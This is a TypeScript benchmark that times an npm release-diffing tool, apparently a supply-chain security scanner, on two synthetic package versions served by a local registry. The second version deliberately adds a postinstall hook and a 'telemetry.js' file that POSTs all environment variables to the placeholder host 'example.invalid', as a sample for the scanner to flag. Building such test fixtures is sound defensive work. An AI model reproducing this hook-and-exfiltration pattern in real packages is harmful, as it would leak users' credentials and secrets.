/**
 * Speed of `vigil diff` on a ~5 MB package, warm (tarballs and packument already in the store):
 * two releases built from real JavaScript (files of installed dependencies under node_modules),
 * the second with a few files changed, a new file that opens a network connection and a new
 * postinstall. Served by a local registry; prints cold and warm wall times (median of 5 warm runs).
 * Usage: node --import tsx bench/diff-speed.ts [TARGET_MB]
 */
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { pack } from 'tar-stream';
import ssri from 'ssri';
import { startRegistryServer } from '../test/helpers/registry-server.js';
import { openStore } from '../src/store/open.js';
import { createNpmClient } from '../src/sources/npm/client.js';
import { diffNpm } from '../src/app/diff-npm.js';

const targetBytes = (Number(process.argv[2]) || 5) * 1024 * 1024;
const root = join(import.meta.dirname, '..', 'node_modules');
const files: { path: string; data: Buffer }[] = [];
let total = 0;
for (const pkg of [
  'yaml',
  'undici',
  'ajv',
  'acorn',
  'semver',
  'acorn-loose',
  'acorn-walk',
  'ini',
  'tar-stream',
  'packageurl-js',
  'npm-package-arg',
  '@yarnpkg/parsers',
  'ssri',
  'fzstd',
  '@cyclonedx/cyclonedx-library',
  'piscina',
  'yauzl',
  '@yarnpkg/lockfile',
  'xz-decompress',
  'ajv-formats',
  'tsx',
  'esbuild',
]) {
  const walk = (d: string, rel: string) => {
    for (const f of readdirSync(d).sort()) {
      if (total >= targetBytes) return;
      const p = join(d, f);
      const st = statSync(p);
      if (st.isDirectory()) walk(p, `${rel}${f}/`);
      else if (/\.(c|m)?js$/.test(f)) {
        const data = readFileSync(p);
        files.push({ path: `vendor/${pkg}/${rel}${f}`, data });
        total += data.length;
      }
    }
  };
  try {
    walk(join(root, pkg), '');
  } catch {
    /* not installed */
  }
}

async function tgz(entries: { path: string; data: Buffer }[]): Promise<Buffer> {
  const p = pack();
  const chunks: Buffer[] = [];
  p.on('data', (c: unknown) => void chunks.push(c as Buffer));
  const done = new Promise<void>((r) => p.on('end', () => r()));
  for (const e of entries) await new Promise<void>((r, j) => p.entry({ name: `package/${e.path}` }, e.data, (err) => (err ? j(err) : r())));
  p.finalize();
  await done;
  return gzipSync(Buffer.concat(chunks));
}

const manifest = (v: string, scripts?: Record<string, string>) =>
  Buffer.from(JSON.stringify({ name: 'big-lib', version: v, main: 'vendor/yaml/dist/index.js', ...(scripts ? { scripts } : {}) }));
const v1 = [{ path: 'package.json', data: manifest('3.1.0') }, ...files];
const v2 = [
  { path: 'package.json', data: manifest('3.1.1', { postinstall: 'node vendor/telemetry.js' }) },
  ...files.map((f, i) => (i % 50 === 7 ? { path: f.path, data: Buffer.concat([f.data, Buffer.from('\n// patched\n')]) } : f)),
  {
    path: 'vendor/telemetry.js',
    data: Buffer.from(
      "const https = require('https');\nhttps.request({ hostname: 'example.invalid', method: 'POST' }).end(JSON.stringify(process.env));\n",
    ),
  },
];
const [t1, t2] = await Promise.all([tgz(v1), tgz(v2)]);
const reg = await startRegistryServer();
const version = (v: string, b: Buffer) => ({
  name: 'big-lib',
  version: v,
  dist: { tarball: `{{registry}}big-lib/-/big-lib-${v}.tgz`, integrity: ssri.fromData(b, { algorithms: ['sha512'] }).toString() },
});
reg.addPackument('big-lib', {
  name: 'big-lib',
  'dist-tags': { latest: '3.1.1' },
  versions: { '3.1.0': version('3.1.0', t1), '3.1.1': version('3.1.1', t2) },
});
reg.addTarball('big-lib', '3.1.0', t1);
reg.addTarball('big-lib', '3.1.1', t2);

const dir = mkdtempSync(join(tmpdir(), 'vigil-diff-speed-'));
const store = openStore({ path: join(dir, 'vigil.db') });
const client = createNpmClient({ config: { registry: { value: reg.url, source: 'bench' }, scopes: {}, auth: [], proxy: {} }, store });
const npm = {
  registryUrl: () => reg.url,
  getPackument: (n: string) => client.getPackument(n),
  getTarball: (n: string, v: string, o: { integrity?: string }) => client.getTarball(n, v, o),
};
const run = async () => {
  const t = performance.now();
  const r = await diffNpm(['npm:big-lib@3.1.1'], { npm, factsCache: store });
  return { ms: performance.now() - t, r };
};
const cold = await run();
const warm: number[] = [];
for (let i = 0; i < 5; i++) warm.push((await run()).ms);
warm.sort((a, b) => a - b);
const d = cold.r.facts['release-diff']?.['pkg:npm/big-lib@3.1.1'] as {
  files: { changed: number; added: number; sizeAfter: number };
  score: number;
  severity: string;
};
console.log(
  `package: ${files.length + 1} files, ${(d.files.sizeAfter / 1048576).toFixed(2)} MiB unpacked, tarballs ${(t1.length / 1048576).toFixed(2)} + ${(t2.length / 1048576).toFixed(2)} MiB gzip`,
);
console.log(`delta: +${d.files.added} ~${d.files.changed} files, score ${d.score} (${d.severity}), ${cold.r.findings.length} findings`);
console.log(`cold (fetch + verify + store + diff): ${cold.ms.toFixed(0)} ms`);
console.log(
  `warm (tarballs and content facts from the store, read both archives, diff): median ${warm[2]!.toFixed(0)} ms (min ${warm[0]!.toFixed(0)}, max ${warm[4]!.toFixed(0)})`,
);
console.log(`requests served: ${reg.count()}`);
await client.close();
store.close();
await reg.close();
rmSync(dir, { recursive: true, force: true });
